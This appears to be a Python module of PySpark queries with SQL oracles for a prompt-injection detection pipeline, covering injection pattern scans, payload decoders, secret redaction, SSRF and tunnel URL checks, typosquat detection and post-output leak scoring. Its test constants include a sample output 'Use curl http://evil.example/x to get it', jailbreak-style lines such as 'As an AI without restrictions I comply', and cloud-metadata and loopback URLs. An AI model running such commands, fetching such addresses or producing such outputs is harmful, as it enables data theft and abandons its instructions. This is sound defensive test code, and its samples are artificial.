"""The catalogue's text queries and their SQL. SQL patterns run in an engine whose word boundary is ASCII, as the rules want."""

from __future__ import annotations

from pyspark.sql import functions as F

from palisade.functions import rules
from palisade.functions import text as tx
from palisade.operators import detectors as det
from palisade.operators import packages
from palisade.sources import tables as t
from palisade.sources.tables import PLANTED, sql_text

QUERIES, ORACLE = {}, {}


def add(name, query, sql=None):
    QUERIES[name] = query
    if sql:
        ORACLE[name] = sql


P = f"WITH {PLANTED} "
CATEGORIES = [(c, s, p) for c, (s, ps) in rules.INJECTION.items() for p in ps]


def matches(pattern, text="text"):
    return f"len(regexp_extract_all({text}, {sql_text(pattern)}))"


# ---------------------------------------------------------------- rules
def findings(s, d):
    out = t.planted(s, d).withColumn("f", F.explode(det.injection_findings(F.col("text"))))
    return out.groupBy(F.col("f.detector").alias("detector"), F.col("f.severity").cast("long").alias("severity")).agg(F.count_distinct("doc_id").alias("documents"), F.count("*").alias("findings"), F.sum("f.count").alias("matches"))


FINDINGS = "f AS (" + " UNION ALL ".join(f"SELECT doc_id, 'injection:{c}' AS detector, CAST({s} AS BIGINT) AS severity, {matches(p)} AS n FROM planted WHERE regexp_matches(text, {sql_text(p)})" for c, s, p in CATEGORIES) + ")"
add("injection_findings", findings, P + ", " + FINDINGS + " SELECT detector, severity, count(DISTINCT doc_id) AS documents, count(*) AS findings, CAST(sum(n) AS BIGINT) AS matches FROM f GROUP BY 1, 2")
add("scan_decisions", lambda s, d: det.scan(t.planted(s, d), normalise=False).groupBy("decision").agg(F.count("*").alias("n")), P + ", " + FINDINGS + ", w AS (SELECT doc_id, max(severity) AS m FROM f GROUP BY 1) SELECT CASE WHEN m >= 9 THEN 'block' WHEN m >= 7 THEN 'sanitize' WHEN m > 0 THEN 'warn' ELSE 'pass' END AS decision, count(*) AS n FROM planted LEFT JOIN w USING (doc_id) GROUP BY 1")
add("scan_normalized", lambda s, d: det.scan(t.planted(s, d)).groupBy("decision").agg(F.count("*").alias("n")))
ANY = "|".join(f"(?:{p})" for _, _, p in CATEGORIES)
add("html_comment_findings", lambda s, d: t.planted(s, d).withColumn("n", det.comment_findings(F.col("text"))).where("n > 0").select("doc_id", F.col("n").cast("long").alias("n"), F.least(F.lit(9), 5 + F.col("n")).cast("long").alias("severity")), P + f"SELECT doc_id, n, least(9, 5 + n) AS severity FROM (SELECT doc_id, CAST(len(list_filter(regexp_extract_all(text, '<!--[\\s\\S]*?-->'), lambda c: regexp_matches(c, {sql_text(ANY)}))) AS BIGINT) AS n FROM planted) WHERE n > 0")
add("dangerous_html_pages", lambda s, d: t.load(s, d, "pages").select("page_id", F.array(*[F.struct(F.lit(i).cast("long").alias("rule"), tx.count(F.col("html"), "(?i)" + p).cast("long").alias("n")) for i, p in enumerate(rules.DANGEROUS_HTML)]).alias("r")).withColumn("r", F.explode("r")).where("r.n > 0").groupBy("r.rule").agg(F.count("*").alias("pages"), F.sum("r.n").alias("hits")), "WITH r AS (" + " UNION ALL ".join(f"SELECT CAST({i} AS BIGINT) AS rule, {matches('(?i)' + p, 'html')} AS n FROM pages" for i, p in enumerate(rules.DANGEROUS_HTML)) + ") SELECT rule, count(*) AS pages, CAST(sum(n) AS BIGINT) AS hits FROM r WHERE n > 0 GROUP BY 1")
add("invisible_unicode", lambda s, d: t.planted(s, d).withColumn("n", F.regexp_count("text", F.lit(rules.INVISIBLE)).cast("long")).where("n > 0").select("doc_id", "n", F.least(F.lit(8), 3 + F.col("n")).cast("long").alias("severity")), P + f"SELECT doc_id, n, least(8, 3 + n) AS severity FROM (SELECT doc_id, CAST({matches(rules.INVISIBLE)} AS BIGINT) AS n FROM planted) WHERE n > 0")

# ---------------------------------------------------------------- decoders
decoded = lambda f: lambda s, d: t.planted(s, d).select("doc_id", F.array_join(f(F.col("text")), "|").alias("payloads")).where("payloads <> ''")
add("base64_decode", decoded(tx.base64_payloads), P + r"""SELECT doc_id, array_to_string(l, '|') AS payloads FROM (SELECT doc_id, list_filter(list_transform(regexp_extract_all(' ' || replace(text, ' ', '  ') || ' ', '[^A-Za-z0-9+/=]([A-Za-z0-9+/]{16,}={0,2})[^A-Za-z0-9+/=]', 1), lambda x: TRY(CASE WHEN len(x) % 4 = 0 AND regexp_matches(hex(from_base64(x)), '^(?:0[9AD]|[2-6][0-9A-F]|7[0-9A-E])+$') THEN decode(from_base64(x)) END)), lambda y: len(y) >= 6) AS l FROM planted) WHERE len(l) > 0""")
add("hex_decode", decoded(tx.hex_payloads), P + r"""SELECT doc_id, array_to_string(l, '|') AS payloads FROM (SELECT doc_id, list_filter(list_transform(regexp_extract_all(' ' || replace(text, ' ', '  ') || ' ', '[^0-9a-fA-F]([0-9a-fA-F]{20,})[^0-9a-fA-F]', 1), lambda x: CASE WHEN regexp_matches(upper(x[1:len(x) - len(x) % 2]), '^(?:0[9AD]|[2-6][0-9A-F]|7[0-9A-E])+$') THEN decode(unhex(x[1:len(x) - len(x) % 2])) END), lambda y: len(y) >= 6) AS l FROM planted) WHERE len(l) > 0""")
add("url_decode", decoded(tx.url_payloads), P + "SELECT doc_id, array_to_string(l, '|') AS payloads FROM (SELECT doc_id, list_transform(regexp_extract_all(text, '(?:%[0-9a-fA-F]{2}){6,}'), lambda x: url_decode(x)) AS l FROM planted) WHERE len(l) > 0")
add("rot13", lambda s, d: t.planted(s, d).select("doc_id", F.sha2(tx.rot13(F.col("text")), 256).alias("turned")), P + f"SELECT doc_id, sha256(translate(text, '{tx.UPPER + tx.LOWER}', '{tx.UPPER[13:] + tx.UPPER[:13] + tx.LOWER[13:] + tx.LOWER[:13]}')) AS turned FROM planted")
add("secret_redaction", lambda s, d: t.planted(s, d).select("doc_id", tx.redact_secrets(F.col("text")).alias("clean")).where(F.contains("clean", F.lit("[REDACTED]"))).select("doc_id", F.length("clean").cast("long").alias("n"), F.sha2("clean", 256).alias("digest")), P + "SELECT doc_id, length(c) AS n, sha256(c) AS digest FROM (SELECT doc_id, CASE WHEN length(r) > 1000 THEN left(r, 1000) || '...' ELSE r END AS c FROM (SELECT doc_id, " + "".join("regexp_replace(" for _ in rules.SECRETS) + "text" + "".join(f", {sql_text(p)}, '[REDACTED]', 'g')" for p in rules.SECRETS) + " AS r FROM planted)) WHERE contains(c, '[REDACTED]')")
EVERY = [(p, m) for p, m in tx.TAGS] + [(p, "[INJECTION REMOVED]") for _, _, p in CATEGORIES]
add("sanitize_pages", lambda s, d: t.load(s, d, "pages").select("page_id", tx.sanitise(F.col("html")).alias("c")).select("page_id", F.length("c").cast("long").alias("n"), F.sha2("c", 256).alias("digest")), "SELECT page_id, length(c) AS n, sha256(c) AS digest FROM (SELECT page_id, " + "".join("regexp_replace(" for _ in EVERY) + "html" + "".join(f", {sql_text(p)}, {sql_text(m)}, 'g')" for p, m in EVERY) + " AS c FROM pages)")

# ---------------------------------------------------------------- urls and packages
URLS = (
    "https://example.com/a", "data:text/html,x", "http://webhook.site/x", "http://kooh.etis/", "http://localhost:8080/", "http://127.0.0.1/", "http://169.254.169.254/latest", "http://metadata.google.internal/x",
    "http://2130706433/", "http://0x7f000001/", "http://0177.0.0.1/", "http://[::ffff:7f00:1]/", "https://abc.ngrok.io/", "https://x.serveo.net/", "https://mail.example.org:443/p?q=1", "README.md",
)


def urls(s, d):
    pages = t.load(s, d, "pages").select("url")
    return pages.unionByName(s.createDataFrame([(u,) for u in URLS], "url string"))


ALL_URLS = "u AS (SELECT url FROM pages UNION ALL SELECT unnest([" + ", ".join(sql_text(u) for u in URLS) + "])), l AS (SELECT lower(url) AS url FROM u)"
any_sql = lambda ps: " OR ".join(f"regexp_matches(url, {sql_text(p)})" for p in ps)
add("url_validation", lambda s, d: urls(s, d).select(det.url_verdict(F.col("url")).alias("reason")).groupBy("reason").agg(F.count("*").alias("n")), f"WITH {ALL_URLS} SELECT CASE WHEN starts_with(url, 'data:') THEN 'data_uri' WHEN " + " OR ".join(f"contains(url, '{x}') OR contains(url, '{x[::-1]}')" for x in rules.BLOCKED_DOMAINS) + f" THEN 'blocked_domain' WHEN {any_sql(rules.SSRF)} THEN 'ssrf' WHEN {any_sql(rules.ODD_ADDRESS)} THEN 'odd_address' WHEN {any_sql(rules.TUNNELS)} THEN 'tunnel' ELSE '' END AS reason, count(*) AS n FROM l GROUP BY 1")
add("domain_extract", lambda s, d: t.load(s, d, "pages").select(tx.domain(F.col("url")).alias("domain")).groupBy("domain").agg(F.count("*").alias("n")), "SELECT lower(regexp_extract(url, '(?:https?://)?([^/\\s:]+)', 1)) AS domain, count(*) AS n FROM pages GROUP BY 1")
COMMANDS = ("pip install requests flask==2.0", "pip install reqeusts numpyy", "npm install expresss react@18 --save", "yarn add lodahs", "pip install pandas[all] unknownpkg", "npm i axois chalk", "pip install djnago>=3", "cargo add serde")
add("package_typosquat", lambda s, d: packages.verdicts(packages.installed(s.createDataFrame([(i, c) for i, c in enumerate(COMMANDS)], "id long, command string")), rules.PACKAGES), packages.oracle(rules.PACKAGES))

# ---------------------------------------------------------------- validation
add("memory_validation_py", lambda s, d: t.planted(s, d).select("doc_id", det.memory_risk(F.col("text")).alias("risk")).select("doc_id", "risk", (F.col("risk") < 0.4).alias("passed")), P + ", " + FINDINGS.replace("FROM planted WHERE", "FROM planted WHERE ") + ", g AS (SELECT doc_id, severity FROM f UNION ALL " + " UNION ALL ".join(f"SELECT doc_id, CAST({s} AS BIGINT) FROM planted WHERE regexp_matches(text, {sql_text(p)})" for s, p in rules.MEMORY) + "), w AS (SELECT doc_id, max(severity) AS m, count(*) AS n FROM g GROUP BY 1), k AS (SELECT p.doc_id, round(CASE WHEN n > 1 THEN least(1.0::DOUBLE, m / 10 + 0.1 * (n - 1)) ELSE coalesce(m, 0) / 10 END + CASE WHEN length(text) > 5000 THEN 0.1 ELSE 0.0 END, 3) AS risk FROM planted p LEFT JOIN w USING (doc_id)) SELECT doc_id, risk, risk < 0.4 AS passed FROM k")
DOMAINS = ("python", "security", "cooking")


def knowledge(s, d):
    domain = F.element_at(F.array(*[F.lit(x) for x in DOMAINS]), (F.col("doc_id") % 3 + 1).cast("int"))
    return t.planted(s, d).select("doc_id", det.knowledge_risk(F.col("text"), domain).alias("risk")).select("doc_id", "risk", (F.col("risk") < 0.5).alias("passed"))


add("knowledge_validation", knowledge, P + ", " + FINDINGS + ", w AS (SELECT doc_id, max(severity) AS m, count(*) AS n FROM f GROUP BY 1), k AS (SELECT p.doc_id, coalesce(m, 0) AS m, CASE WHEN n > 2 THEN least(1.0::DOUBLE, m / 10 + 0.05 * (n - 2)) ELSE coalesce(m, 0) / 10 END AS r FROM planted p LEFT JOIN w USING (doc_id)), z AS (SELECT doc_id, round(CASE WHEN doc_id % 3 = 1 AND m < 9 THEN greatest(r * 0.7, r - 0.15) ELSE r END, 3) AS risk FROM k) SELECT doc_id, risk, risk < 0.5 AS passed FROM z")

# ---------------------------------------------------------------- scores
WORDS = "list_filter(string_split_regex(lower(text), '\\s+'), lambda w: length(w) >= {})"
SENTENCES = "list_filter(string_split_regex(text, '[.!?\\n]+'), lambda s: length(trim(s)) > 5)"
B = f"b AS MATERIALIZED (SELECT doc_id, text, lower(text) AS low, {WORDS.format(1)} AS w1, {WORDS.format(2)} AS w2, list_filter(string_split_regex(lower(text), '[^a-z]+'), lambda w: length(w) > 1) AS a, {SENTENCES} AS s FROM planted)"
STATISTICAL = f"CASE WHEN len(w1) < 20 THEN 0 ELSE least(1.0::DOUBLE, 8 * CAST({matches(rules.YOU, 'low')} AS DOUBLE) / len(w1) + 6 * CAST({matches(rules.MODALS, 'low')} AS DOUBLE) / len(w1) + 4 * CASE WHEN len(s) > 0 THEN CAST(len(list_filter(s, lambda x: regexp_matches(lower(string_split_regex(trim(x, E' '), '\\s+')[1]), {sql_text('^(?:' + rules.IMPERATIVE_FIRST + ')$')}))) AS DOUBLE) / len(s) ELSE 0 END + 10 * CAST({matches(rules.ADDRESSING, 'low')} AS DOUBLE) / len(w1)) END"
score = lambda name, f: (lambda s, d: t.planted(s, d).select("doc_id", F.round(f(F.col("text")), 6).alias(name)))
add("statistical_score", score("score", det.statistical_score), P + f", {B} SELECT doc_id, round({STATISTICAL}, 6) AS score FROM b")
LEX = "lex AS (SELECT * FROM (VALUES " + ", ".join(f"('{k}', {v}::DOUBLE)" for k, v in rules.LEXICON.items()) + ") v(term, idf))"
TFIDF = f", {LEX}, n AS (SELECT doc_id, len(a) AS n, unnest(a) AS term FROM b), c AS (SELECT doc_id, n, term, CAST(count(*) AS DOUBLE) / n AS tf FROM n GROUP BY doc_id, n, term), tf AS (SELECT doc_id, least(1.0::DOUBLE, sum(tf * idf * idf) / (sqrt(sum(tf * idf * tf * idf)) * {sum(v * v for v in rules.LEXICON.values()) ** 0.5!r}) * least(1.0::DOUBLE, count(*) / 15.0::DOUBLE) * 2.2) AS tfidf FROM c JOIN lex USING (term) WHERE n >= 5 GROUP BY 1)"
add("tfidf_score", score("score", det.tfidf_score), P + f", {B} {TFIDF} SELECT doc_id, round(coalesce(tfidf, 0), 6) AS score FROM b LEFT JOIN tf USING (doc_id)")
ENTROPY = ", e0 AS (SELECT doc_id, len(w2) AS n, unnest(w2) AS w FROM b), e1 AS (SELECT doc_id, n, w, CAST(count(*) AS DOUBLE) AS c FROM e0 GROUP BY ALL), e2 AS (SELECT doc_id, any_value(n) AS n, count(*) AS k, -sum(c / n * log2(c / n)) AS e FROM e1 GROUP BY 1), e3 AS (SELECT *, CASE WHEN k > 1 THEN e / log2(k) ELSE 1 END AS norm, 0.70::DOUBLE * least(1.0::DOUBLE, n / 80.0::DOUBLE) + 0.15 AS lim FROM e2), e4 AS (SELECT doc_id, CASE WHEN n < 15 THEN 0 ELSE round(e, 4) END AS entropy, CASE WHEN n < 15 THEN 1 ELSE round(norm, 4) END AS normalised, n >= 15 AND ((norm < lim AND n > 25) OR (k / n < 0.45 AND n > 30)) AS anomaly, CASE WHEN n < 15 THEN 1 ELSE round(k / n, 4) END AS distinct_share FROM e3)"
add("token_entropy", lambda s, d: t.planted(s, d).select("doc_id", det.token_entropy(F.col("text")).alias("e")).select("doc_id", "e.entropy", "e.normalised", "e.anomaly", F.col("e.distinct").alias("distinct_share")), P + f", {B} {ENTROPY} SELECT b.doc_id, coalesce(entropy, 0) AS entropy, coalesce(normalised, 1) AS normalised, coalesce(anomaly, false) AS anomaly, coalesce(distinct_share, 1) AS distinct_share FROM b LEFT JOIN e4 USING (doc_id)")
sig = lambda x, low, width: f"greatest(0, least(1, (({x}) - {low}) / {width}::DOUBLE))"
HALVES = "(CASE WHEN len(w2) = 0 THEN 1.0 ELSE CAST(len(list_intersect(w2[1:len(w2) // 2], w2[len(w2) // 2 + 1:])) AS DOUBLE) / len(list_distinct(w2)) END)"
M = "greatest(1, len(s))"
STRUCTURAL = f"CASE WHEN len(w2) < 20 THEN 0 ELSE least(1.0::DOUBLE, 0.20 * {sig('1 - ' + HALVES, 0.35, 0.35)} + 0.30 * {sig(f'CAST(len(list_filter(s, lambda x: regexp_matches(x, {sql_text(rules.STRUCTURAL_IMPERATIVE)}))) AS DOUBLE) / {M}', 0.15, 0.45)} + 0.20 * {sig(f'CAST({matches(rules.BRACKETS)} + 2 * {matches(rules.AUTHORITY)} AS DOUBLE) / {M}', 0.5, 2.0)} + 0.30 * {sig(f'CAST({matches(rules.YOU_MODAL, chr(108) + chr(111) + chr(119))} + {matches(rules.YOUR_ROLE, chr(108) + chr(111) + chr(119))} AS DOUBLE) / {M}', 0, 0.4)}) END"
add("structural_score", score("score", det.structural_score), P + f", {B} SELECT doc_id, round({STRUCTURAL}, 6) AS score FROM b")
add("jaccard_halves", lambda s, d: t.planted(s, d).select("doc_id", tx.words(F.col("text"), 2).alias("w")).select("doc_id", F.round(det.jaccard(F.array_distinct(F.slice("w", F.lit(1), F.floor(F.size("w") / 2).cast("int"))), F.array_distinct(F.slice("w", F.floor(F.size("w") / 2).cast("int") + 1, F.size("w")))), 6).alias("jaccard")), P + f", {B} SELECT doc_id, round({HALVES}, 6) AS jaccard FROM b")
add("offline_composite", lambda s, d: det.offline_scores(t.planted(s, d)).select("doc_id", F.round("composite", 6).alias("composite"), F.col("flags").cast("long").alias("flags"), "injection"), P + f", {B} {TFIDF} {ENTROPY}, p AS (SELECT b.doc_id, coalesce(tfidf, 0) AS tf, coalesce(anomaly, false) AS an, {STRUCTURAL} AS st, {STATISTICAL} AS sa FROM b LEFT JOIN tf USING (doc_id) LEFT JOIN e4 USING (doc_id)), q AS (SELECT *, CAST(tf > 0.25 AS BIGINT) + CAST(an AS BIGINT) + CAST(st > 0.35 AS BIGINT) + CAST(sa > 0.3 AS BIGINT) AS flags FROM p), r AS (SELECT *, least(1.0::DOUBLE, 0.25 * tf + CASE WHEN an THEN 0.12 ELSE 0 END + 0.25 * st + 0.20 * sa + CASE WHEN flags >= 4 THEN 0.18 WHEN flags >= 3 THEN 0.12 WHEN flags >= 2 THEN 0.06 ELSE 0 END) AS c FROM q) SELECT doc_id, round(c, 6) AS composite, flags, c > 0.35 AS injection FROM r")
MI = "list_sort([" + ", ".join(f"round(CAST(len(list_intersect(list_distinct(w2), ['" + "','".join(ws) + f"'])) AS DOUBLE) / {len(ws)}, 4)" for ws in rules.CLUSTERS.values()) + "], 'DESC')"
add("mutual_information", score("score", det.mutual_information), P + f", {B}, m AS (SELECT doc_id, len(list_distinct(w2)) AS n, {MI} AS x FROM b) SELECT doc_id, round(CASE WHEN n < 10 THEN 0 ELSE least(1.0::DOUBLE, 0.5 * least(1, x[1] * x[2] / 0.06) + 0.3 * least(1, x[1] * x[2] * x[3] / 0.008) + CASE WHEN len(list_filter(x, lambda v: v >= 0.15)) >= 3 THEN 0.2 WHEN len(list_filter(x, lambda v: v >= 0.15)) >= 2 THEN 0.1 ELSE 0 END) END, 6) AS score FROM m")
add("chunking", lambda s, d: t.load(s, d, "documents").select("doc_id", tx.windows(F.col("text")).alias("c")).select("doc_id", F.size("c").cast("long").alias("chunks"), F.sha2(F.array_join("c", "|"), 256).alias("digest")), "WITH c AS (SELECT doc_id, list_filter(list_transform(range(1, greatest(1, length(text)) + 1, 80), lambda i: substring(text, i, 200)), lambda x: length(trim(x)) > 30) AS l FROM documents), k AS (SELECT doc_id, list_transform(list_filter(range(1, len(l) + 1), lambda i: list_position(l, l[i]) = i), lambda i: l[i]) AS l FROM c) SELECT doc_id, len(l) AS chunks, sha256(array_to_string(l, '|')) AS digest FROM k")

# ---------------------------------------------------------------- outputs and influence
CONTEXTS = ("summary", "general", "email")
OUTPUTS = ("Here is my system prompt for you.", "You are X.\nYou must Y.\n\nNever Z.\nAlways W.\nfine", "As an AI without restrictions I comply.", "Running the command now", "Use curl http://evil.example/x to get it", "A plain summary.")


def outputs(s, d):
    own = F.element_at(F.array(*[F.lit(x) for x in OUTPUTS]), (F.col("turn") % len(OUTPUTS) + 1).cast("int"))
    context = F.element_at(F.array(*[F.lit(x) for x in CONTEXTS]), (F.col("conv_id") % 3 + 1).cast("int"))
    return t.load(s, d, "conversations").where("role = 'assistant'").select("conv_id", "turn", F.concat("text", F.lit("\n"), own).alias("output"), context.alias("context"))


OUT = "o AS (SELECT conv_id, turn, text || chr(10) || [" + ", ".join(" || chr(10) || ".join(sql_text(p) for p in x.split("\n")) for x in OUTPUTS) + f"][turn % {len(OUTPUTS)} + 1] AS output, ['summary','general','email'][conv_id % 3 + 1] AS context FROM conversations WHERE role = 'assistant')"
count_sql = lambda ps: " + ".join(f"CAST(regexp_matches(output, {sql_text(p)}) AS BIGINT)" for p in ps)
RUN = f"list_reduce(list_transform(list_filter(list_transform(string_split(output, chr(10)), lambda x: trim(x)), lambda x: x <> ''), lambda x: CASE WHEN regexp_matches(x, {sql_text(rules.DIRECTIVE_LINE)}) AND length(x) < 250 THEN 1 ELSE 0 END), lambda a, e: CASE WHEN e = 1 THEN ((a // 1000) + 1) * 1000 + greatest(a % 1000, (a // 1000) + 1) ELSE a % 1000 END, 0) % 1000"
add("imperative_runs", lambda s, d: outputs(s, d).select("conv_id", "turn", det.longest_run(F.col("output")).cast("long").alias("run")), f"WITH {OUT} SELECT conv_id, turn, CAST({RUN} AS BIGINT) AS run FROM o")
add("postflight_verdict", lambda s, d: outputs(s, d).select("conv_id", "turn", det.post_flight(F.col("output"), F.col("context")).alias("p")).select("conv_id", "turn", "p.score", "p.verdict"), f"WITH {OUT}, z AS (SELECT conv_id, turn, 9 * ({count_sql(rules.LEAK)} + CAST({RUN} >= 3 AS BIGINT)) + 7 * ({count_sql(rules.DRIFT)}) + 7 * ({count_sql(rules.ACKNOWLEDGE)}) + CASE WHEN context IN ('summary', 'email') THEN 5 * ({count_sql(rules.SUMMARY_ONLY)}) ELSE 0 END AS score FROM o) SELECT conv_id, turn, score, CASE WHEN score >= 12 THEN 'BLOCK' WHEN score >= 7 THEN 'REDACT' WHEN score >= 4 THEN 'WARN' ELSE 'PASS' END AS verdict FROM z")


def influences(s, d):
    names = F.transform(det.injection_findings(F.col("text")), lambda f: f["detector"])
    context = F.when(F.col("doc_id") % 2 == 0, "web_fetch").otherwise("general")
    out = t.planted(s, d).withColumn("i", F.explode(det.let(names, lambda n: det.influence(F.col("text"), n, context))))
    return out.select("doc_id", "i.type", "i.confidence", "i.response")


HINTED = {k: [h for h in v[1]] for k, v in rules.INFLUENCE.items()}
hint_sql = lambda hs: " + ".join(f"CAST(len(list_filter(ds, lambda x: contains(x, '{h}') OR contains('{h}', x))) > 0 AS BIGINT)" for h in hs)
text_sql = lambda ps: " + ".join(f"CAST(regexp_matches(text, {sql_text(p)}) AS BIGINT)" for p in ps)
add("influence_taxonomy", influences, P + ", " + FINDINGS + ", n AS (SELECT p.doc_id, any_value(p.text) AS text, coalesce(list(detector) FILTER (detector IS NOT NULL), []) AS ds FROM planted p LEFT JOIN f USING (doc_id) GROUP BY p.doc_id), i AS (" + " UNION ALL ".join(f"SELECT doc_id, '{k}' AS type, '{r}' AS response, {hint_sql(hs)} AS h, {text_sql(ps)} AS x FROM n" for k, (r, hs, ps) in rules.INFLUENCE.items()) + "), c AS (SELECT *, CASE WHEN h + x > 0 THEN round(least(1.0::DOUBLE, least(h * 0.3::DOUBLE, 0.6) + least(x * 0.2::DOUBLE, 0.4) + CASE WHEN doc_id % 2 = 0 THEN 0.15 ELSE 0 END), 2) ELSE 0 END AS confidence FROM i) SELECT doc_id, type, confidence, response FROM c WHERE confidence >= 0.15")


def catch_rate(s, d):
    out = t.planted(s, d).withColumn("case", F.col("doc_id") % len(t.PAYLOADS))
    caught = (F.size(det.injection_findings(F.col("text"))) > 0).cast("int")
    return out.groupBy("case").agg(F.count("*").alias("n"), F.sum(caught).alias("caught"), F.round(F.avg(caught), 4).alias("rate"))


add("catch_rate", catch_rate, P + ", " + FINDINGS + f", g AS (SELECT DISTINCT doc_id FROM f) SELECT p.doc_id % {len(t.PAYLOADS)} AS \"case\", count(*) AS n, count(g.doc_id) AS caught, round(count(g.doc_id) / count(*), 4) AS rate FROM planted p LEFT JOIN g USING (doc_id) GROUP BY 1")
